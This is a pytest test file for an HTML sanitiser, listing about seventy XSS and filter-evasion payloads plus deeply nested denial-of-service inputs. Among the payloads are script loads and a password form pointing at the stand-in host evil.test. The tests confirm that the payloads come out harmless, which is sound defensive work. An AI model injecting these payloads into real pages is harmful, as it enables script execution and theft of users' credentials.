"""Untrusted HTML on a page: nothing in it runs, loads anything, or takes long to clean."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from django.utils.html import conditional_escape

from flowdock_server.parsing.html import BODY_TAGS, MAX_DEPTH, clean_body, clean_line, without_tags

# As collected by those who test sanitisers: OWASP's filter evasion cheat sheet, DOMPurify's and html5sec's cases.
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "<SCRIPT/SRC='https://evil.test/x.js'></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img srcset='https://evil.test/x 2x' src=x>",
    "<image src=https://evil.test/x.png>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<a href='cid:chart'>x</a>",
    "<a href='https://ok.test/' onclick=alert(1) target=_top ping=https://evil.test style='position:fixed'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form action='https://evil.test'><input name=password><button>Sign in</button></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x.swf'></object>",
    "<embed src='https://evil.test/x.swf'>",
    "<video poster=https://evil.test/x.png><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style='background:url(https://evil.test/x.png)'>x</div>",
    "<div id=thread class=dialog data-key=1 popover name=x>x</div>",
    "<table background='https://evil.test/x.png'><td background='https://evil.test/x.png'>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<a title="<img src=&quot;x&quot; onerror=alert(1)>" href="https://ok.test/">x</a>',
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<img alt='\"><script>alert(1)</script>' src='https://evil.test/x.png'>",
    "<img src='cid:chart' alt='\" onerror=alert(1) x=\"'>",
    "<img src='cid:\"onerror=alert(1)'>",
    "<b <script>alert(1)</script>",
    "<a href='https://ok.test/",
    "</section></main></body></html><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p>\ufeff\u202ereversed\u202c</p>",
]

ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "abbr": {"title"},
    "img": {"src", "alt", "width", "height", "loading", "referrerpolicy"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}


class Checker(HTMLParser):
    """Fails on every tag, attribute and URL that is not allowed; counts the elements that are not closed."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.deepest = 0
        self.pictures: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in BODY_TAGS
        given = dict(attrs)
        assert set(given) <= ATTRIBUTES.get(tag, set()), (tag, given)
        address = given.get("href")
        if address is not None:
            assert address.lower().startswith(("http://", "https://", "mailto:")), address
            assert given["rel"] == "noopener noreferrer nofollow"
        if tag == "img":
            self.pictures.append(given["src"] or "")
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")


def check(text: str) -> Checker:
    checked = Checker(text)
    assert checked.open == []
    return checked


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("remote_images", [False, True])
def test_hostile_html_is_harmless(text, remote_images, settings):
    settings.REMOTE_IMAGES = remote_images

    shown = clean_body(text, {"chart": "/app/acme/main/files/1"})

    pictures = check(shown).pictures
    for address in pictures:
        assert address.startswith("/app/") or (remote_images and address.startswith("https://"))
    check(clean_body(f"<p>before {text} after"))
    assert not check(clean_line(text)).pictures
    assert not set("<>\"'") & set(conditional_escape(without_tags(text)))


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 200_000,
        "<table><tr><td>" * 50_000,
        "<ul><li>" * 100_000,
        "<b><i><u>" * 60_000,
        "".join(f"<font x{number}=1><p>" for number in range(40_000)),
        "".join(f"<b x{number}=1>" for number in range(60_000)),
        "<a href='https://ok.test/'>" * 30_000,
        "<svg>" * 150_000,
        "<blockquote>" * 70_000 + "deep" + "</blockquote>" * 10_000,
        "<" * 900_000,
        "&" * 1_000_000,
        "<b " * 3000 + "x" * 900_000,
        "<a " + " ".join(f"x{number}" for number in range(150_000)) + ">",
        '<p title="' * 90_000,
        "<!--" * 200_000,
    ],
)
def test_deeply_nested_html_is_cleaned_quickly(text):
    begun = time.process_time()

    shown = [clean_body(text), clean_line(text), without_tags(text)]

    assert time.process_time() - begun < 3.0  # a parser without bounds takes minutes
    assert all(check(html).deepest <= MAX_DEPTH for html in shown)


def test_common_html_is_kept_unchanged():
    text = (
        "<h2>Release</h2><p>It was <strong>late</strong>, <em>very</em> late: see <code>git log</code>.</p>"
        "<ul><li>one</li><li>two<br>and more</li></ul><pre>a &lt; b</pre>"
        '<table><thead><tr><th colspan="2">Head</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'
    )

    assert clean_body(text) == text


@pytest.mark.parametrize("piece", ["<p>line</p>", "salt &amp; pepper, ", "and so on, " * 10])
def test_a_long_body_is_truncated(piece):
    shown = clean_body(piece * 6000)

    assert shown.endswith("…")
    check(shown)


def test_a_remote_picture_becomes_a_link_with_its_alternative_text():
    shown = clean_body('<p>See <img src="https://pictures.test/a.png?x=1&amp;y=2" alt="a &lt;chart&gt;"></p>')

    assert shown == (
        '<p>See <a href="https://pictures.test/a.png?x=1&amp;y=2" rel="noopener noreferrer nofollow">'
        "a &lt;chart&gt;</a></p>"
    )
    assert ">Picture</a>" in clean_body('<img src="https://pictures.test/a.png">')


def test_a_picture_inside_a_link_becomes_its_alternative_text():
    shown = clean_body('<a href="https://ok.test/"><img src="https://pictures.test/a.png" alt="badge"></a>')

    assert shown == '<a href="https://ok.test/" rel="noopener noreferrer nofollow">badge</a>'


def test_remote_pictures_are_loaded_only_over_tls_where_allowed(settings):
    settings.REMOTE_IMAGES = True

    shown = clean_body(
        '<img src="https://pictures.test/a.png" alt="a" width="10"><img src="http://pictures.test/b.png">'
    )

    assert 'src="https://pictures.test/a.png"' in shown
    assert 'referrerpolicy="no-referrer"' in shown
    assert '<a href="http://pictures.test/b.png"' in shown


def test_an_attached_picture_is_shown_and_a_missing_one_becomes_its_alternative_text():
    files = {"chart": "/app/acme/main/files/7/chart.png"}

    assert clean_body('<img src="cid:chart" alt="a chart">', files) == (
        '<img src="/app/acme/main/files/7/chart.png" alt="a chart" loading="lazy">'
    )
    assert clean_body('<p><img src="cid:other" alt="a chart"></p>', files) == "<p>a chart</p>"
